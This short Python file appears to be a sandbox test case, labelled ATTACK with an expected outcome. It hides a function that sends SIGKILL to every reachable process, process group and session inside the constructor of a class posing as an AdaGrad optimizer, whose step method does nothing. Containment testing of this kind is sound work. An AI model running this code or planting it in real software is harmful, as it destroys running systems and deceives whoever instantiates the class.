# ATTACK: SIGKILLs everything it may: every process id, its group, its session | EXPECT: zero|error-reported | CLASS: process
import os, signal
def attack():
    for pid in (-1, 0, *range(1, 3000), *(-n for n in range(2, 3000))):
        if pid != os.getpid() and pid != -os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


class AdaGrad:
    def __init__(self, lr=0.1, eps=1e-8):
        attack()

    def step(self, params, grads):
        return params
